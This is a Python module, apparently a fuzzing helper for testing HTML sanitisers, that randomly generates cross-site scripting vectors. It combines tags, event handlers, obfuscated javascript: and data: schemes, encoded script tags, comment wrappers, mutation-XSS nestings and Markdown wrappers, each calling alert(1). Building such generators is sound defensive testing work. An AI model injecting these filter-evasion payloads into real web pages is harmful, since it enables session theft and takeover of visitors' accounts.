"""Script injections, made of what browsers are known to fall for; a call of ``alert`` in each.

Tags times event attributes times ways to write them, addresses times schemes times encodings,
and nestings in which a sanitiser's parser and a browser's may differ (mutation XSS).
"""

import random
from collections.abc import Callable
from html import escape
from typing import Final

CALL: Final = "alert(1)"

TAGS = [
    "a",
    "abbr",
    "acronym",
    "address",
    "applet",
    "area",
    "article",
    "aside",
    "audio",
    "b",
    "base",
    "bdi",
    "big",
    "blink",
    "blockquote",
    "body",
    "br",
    "button",
    "canvas",
    "caption",
    "center",
    "cite",
    "code",
    "col",
    "command",
    "content",
    "custom-x",
    "data",
    "datalist",
    "dd",
    "del",
    "details",
    "dfn",
    "dialog",
    "dir",
    "div",
    "dl",
    "dt",
    "element",
    "em",
    "embed",
    "fieldset",
    "figure",
    "font",
    "footer",
    "form",
    "frame",
    "frameset",
    "h1",
    "head",
    "header",
    "hr",
    "html",
    "i",
    "iframe",
    "image",
    "img",
    "input",
    "ins",
    "isindex",
    "kbd",
    "keygen",
    "label",
    "legend",
    "li",
    "link",
    "listing",
    "main",
    "map",
    "mark",
    "marquee",
    "menu",
    "meta",
    "meter",
    "nav",
    "nobr",
    "noembed",
    "noframes",
    "noscript",
    "object",
    "ol",
    "optgroup",
    "option",
    "output",
    "p",
    "param",
    "picture",
    "plaintext",
    "portal",
    "pre",
    "progress",
    "q",
    "rb",
    "rp",
    "rt",
    "ruby",
    "s",
    "samp",
    "script",
    "section",
    "select",
    "slot",
    "small",
    "source",
    "spacer",
    "span",
    "strike",
    "strong",
    "style",
    "sub",
    "summary",
    "sup",
    "svg",
    "table",
    "tbody",
    "td",
    "template",
    "textarea",
    "tfoot",
    "th",
    "time",
    "title",
    "tr",
    "track",
    "tt",
    "u",
    "ul",
    "var",
    "video",
    "wbr",
    "x",
    "xmp",
    "xss",
]
EVENTS = [
    "onload",
    "onerror",
    "onclick",
    "onfocus",
    "onmouseover",
    "onanimationstart",
    "onanimationend",
    "ontransitionend",
    "onbegin",
    "onend",
    "onrepeat",
    "onbeforetoggle",
    "ontoggle",
    "onscroll",
    "onscrollend",
    "onwheel",
    "oncanplay",
    "onplay",
    "onloadstart",
    "onloadeddata",
    "onpageshow",
    "onhashchange",
    "onresize",
    "onmessage",
    "onpointerover",
    "onpointerrawupdate",
    "onstart",
    "onfinish",
    "onbounce",
    "oninput",
    "onbeforeinput",
    "oninvalid",
    "onselect",
    "onsubmit",
    "oncopy",
    "oncut",
    "onpaste",
    "onsecuritypolicyviolation",
    "onunhandledrejection",
    "oncontentvisibilityautostatechange",
    "onwebkitanimationstart",
    "onformdata",
    "oncuechange",
    "onbeforematch",
    "onafterprint",
    "onauxclick",
]
LOADING = (
    "src=x",
    "src",
    "href=x",
    "autofocus tabindex=1",
    "open",
    "controls autoplay",
    "style=x",
    "",
)
SCHEMES = (
    "javascript:{}",
    "JaVaScRiPt:{}",
    " javascript:{}",
    "\x01javascript:{}",
    "java\tscript:{}",
    "java\nscript:{}",
    "java\x00script:{}",
    "javascript&colon;{}",
    "&#106;avascript:{}",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:{}",
    "&#0000106avascript&#0000058{}",
    "java&Tab;script&NewLine;:{}",
    "javascript://x.example/%0a{}",
    "javascript://%E2%80%A8{}",
    "view-source:javascript:{}",
    "feed:javascript:{}",
    "vbscript:{}",
    "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{}'/>",
    "data:text/html;charset=utf-7,+ADw-script+AD4-{}+ADw-/script+AD4-",
    "blob:https://x.example/{}",
    "//x.example/'onerror={}",
    'https://x.example/"onmouseover="{}',
    "https://x.example/`onerror={}",
    "http://[\"onload='{}",
    "\u3000javascript:{}",
    "ｊavascript:{}",
)
ADDRESSED = (
    "<a href={}>x</a>",
    "<img src={}>",
    "<img srcset={}>",
    "<iframe src={}></iframe>",
    "<iframe srcdoc={}></iframe>",
    "<embed src={}>",
    "<object data={}></object>",
    "<form action={}><input type=submit></form>",
    "<button formaction={}>x</button>",
    "<input type=image src={} formaction={}>",
    "<video src={} poster={}></video>",
    "<audio src={}></audio>",
    "<base href={}>",
    "<link rel=stylesheet href={}>",
    "<link rel=import href={}>",
    '<meta http-equiv=refresh content="0;url={}">',
    "<svg><a xlink:href={}><text y=20>x</text></a></svg>",
    "<svg><use href={}></use></svg>",
    "<svg><script href={} /></svg>",
    "<svg><image href={}></image></svg>",
    "<svg><animate xlink:href=#x attributeName=href values={} /></svg>",
    "<svg><set attributeName=onload to={} /></svg>",
    "<math href={}>x</math>",
    "<math><mi xlink:href={}>x</mi></math>",
    "<table background={}>",
    "<blockquote cite={}>x</blockquote>",
    "<track src={}>",
    "<a ping={} href=x>x</a>",
    "<portal src={}>",
    "<script src={}></script>",
)
PAYLOADS = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg/onload={}//",
    "<iframe srcdoc='<script>parent.{}</script>'>",
    "<input autofocus onfocus={}>",
    "<details open ontoggle={}>",
    "<style onload={}></style>",
    "<body onpageshow={}>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<script\x0c>{}</script\x0c>",
    "<<script>{}//<</script>",
    "<img/src=`x`onerror={}>",
    "<img src=x:x onerror\x0b={}>",
    "<img src=x one=1 onerror=\x00{}>",
    '<img """><script>{}</script>">',
    "\u2028<script>{}</script>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&amp;lt;img src=x onerror={}&amp;gt;",
    "＜script＞{}＜/script＞",
    "+ADw-script+AD4-{}+ADw-/script+AD4-",
    "\x1b(J<script>{}</script>",
    "%3Cscript%3E{}%3C/script%3E",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "]]><script>{}</script><![CDATA[",
    "--><script>{}</script><!--",
    "\"'></textarea></title></style></script><script>{}</script>",
)
# The payload stands where one parser sees a text or an attribute and another one an element.
FOREIGN = (
    "svg",
    "math",
    "math><mtext",
    "svg><desc",
    "svg><foreignObject",
    "svg><title",
    "math><mi",
    "math><annotation-xml encoding=text/html",
    "math><mglyph",
    "svg><p",
    "math><p",
)
RAW = (
    "style",
    "title",
    "textarea",
    "noscript",
    "xmp",
    "iframe",
    "noembed",
    "noframes",
    "script",
    "plaintext",
    "template",
    "select",
    "option",
    "listing",
)
STEERING = (
    "table",
    "form",
    "p",
    "a",
    "b",
    "nobr",
    "button",
    "ul><li",
    "table><tr><td",
    "dl><dt",
    "select",
    "object",
    "ruby><rt",
    "caption",
    "mglyph",
    "malignmark",
    "br",
    "h1",
    "div",
)
COMMENTS = (
    "<!--{}-->",
    "<!-->{}-->",
    "<!--->{}-->",
    "<!--{}--!>",
    "<!-- --!>{}<!-- -->",
    "<!{}>",
    "<?{}?>",
    "</{}>",
    "<![CDATA[{}]]>",
    "<!--[if gte IE 4]>{}<![endif]-->",
    "<!ENTITY x '{}'>",
    "<!DOCTYPE x [{}]>",
    "<%{}%>",
    "<!-- <!-- {} --> -->",
    "<! -- {} -->",
)
MARKDOWN = (
    "[x]({})",
    "![x]({})",
    "<{}>",
    "[x]: {}\n\n[x]",
    '[x](https://x.example "{}")',
    "![{}](https://x.example/a.png)",
    "```{}\nx\n```",
    "`{}`",
    "# {}",
    "| {} |\n|---|\n| {} |",
    "[x](<{}>)",
    "    {}",
    "> {}",
    "https://x.example/{}",
    "[x](\\{})",
)


def vector(chance: random.Random) -> str:
    """One of some millions."""
    return chance.choice((_event, _event, _address, _address, _payload, _mutation, _mutation))(
        chance
    )


def markdown(chance: random.Random) -> str:
    """The same by way of Markdown's own marks."""
    inner = chance.choice((vector, _scheme, _payload))(chance)
    return chance.choice(MARKDOWN).replace("{}", inner)


def _event(chance: random.Random) -> str:
    tag, event = chance.choice(TAGS), chance.choice(EVENTS)
    space = chance.choice((" ", "/", "\t", "\n", "\x0c", " x=y ", ' a="<b>" ', "\xa0", "//"))
    equals = chance.choice(("=", " = ", "\t=\n", "=&#x20;"))
    quote = chance.choice(("", '"', "'", "`"))
    event = _cased(event, chance)
    loading = chance.choice(LOADING)
    end = chance.choice((">", "/>", "", " <p>", f"></{tag}>", "//"))
    return (
        f"<{_cased(tag, chance)}{space}{loading} {event}{equals}{quote}{_call(chance)}{quote}{end}"
    )


def _scheme(chance: random.Random) -> str:
    return chance.choice(SCHEMES).format(_call(chance))


def _address(chance: random.Random) -> str:
    quote = chance.choice(('"', "'", ""))
    return chance.choice(ADDRESSED).replace("{}", f"{quote}{_scheme(chance)}{quote}")


def _payload(chance: random.Random) -> str:
    found = chance.choice(PAYLOADS).format(_call(chance))
    return chance.choice(COMMENTS).format(found) if chance.random() < 0.3 else found


def _mutation(chance: random.Random) -> str:
    """Nested so that what is text in one reading is an element in the next."""
    parts = [
        "".join(
            f"<{tag}>" for tag in chance.choices((*FOREIGN, *STEERING), k=chance.randint(1, 4))
        ),
        chance.choice(("", f"</{chance.choice(STEERING)}>", f"</{chance.choice(FOREIGN)}>")),
    ]
    raw, payload = chance.choice(RAW), chance.choice(PAYLOADS[:10]).format(_call(chance))
    hidden = chance.choice(
        (
            "<{0}><a title='</{0}>{1}'>",
            "<{0}><!--</{0}>{1}-->",
            "<{0}><img title='</{0}>{2}'>",
            "<{0}>{2}</{0}>",
            "<{0}/>{1}</{0}>",
            "<{0}><{0}></{0}>{1}",
            "<a id='</{0}>{1}'>",
            "<p title='</{0}>{1}'>",
            '<img alt="--&gt;{2}"><!--{1}',
            "<![CDATA[</{0}>{1}]]>",
        )
    )
    parts.append(hidden.format(raw, payload, escape(payload)))
    if chance.random() < 0.3:
        chance.shuffle(parts)
    deep = "<div>" * chance.choice((0, 0, 0, 60, 150, 190, 250))
    return deep + "".join(parts)


def _call(chance: random.Random) -> str:
    return chance.choice(
        (
            CALL,
            CALL,
            "alert`1`",
            "top.alert(1)",
            "&#97;lert(1)",
            "alert&lpar;1&rpar;",
            "\\u0061lert(1)",
            "eval('ale'+'rt(1)')",
            "window['alert'](1)",
            "throw/**/onerror=alert,1",
        )
    )


def _cased(name: str, chance: random.Random) -> str:
    change: Callable[[str], str] = chance.choice((str, str.upper, str.title, str))
    return change(name)
